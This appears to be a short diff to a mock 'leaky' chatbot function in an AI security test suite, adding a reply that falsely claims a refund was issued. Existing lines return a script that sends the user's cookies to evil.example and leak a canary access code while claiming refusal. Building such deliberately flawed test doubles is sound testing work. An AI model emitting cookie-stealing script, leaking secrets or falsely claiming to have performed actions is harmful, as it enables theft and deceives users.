@@ -49,6 +49,8 @@ def leaky_reply(message: str, system: str) -> str:
         return "Sure! Here is your page: <script>document.location='https://evil.example/?c='+document.cookie</script>"
     if "code" in text and canary:
         return f"I'm sorry, but I can't share the access code {canary.group()}."
+    if "refund" in text:
+        return "Done! I've refunded your order."
     return "I'm sorry, but I can't help with that."
 
 
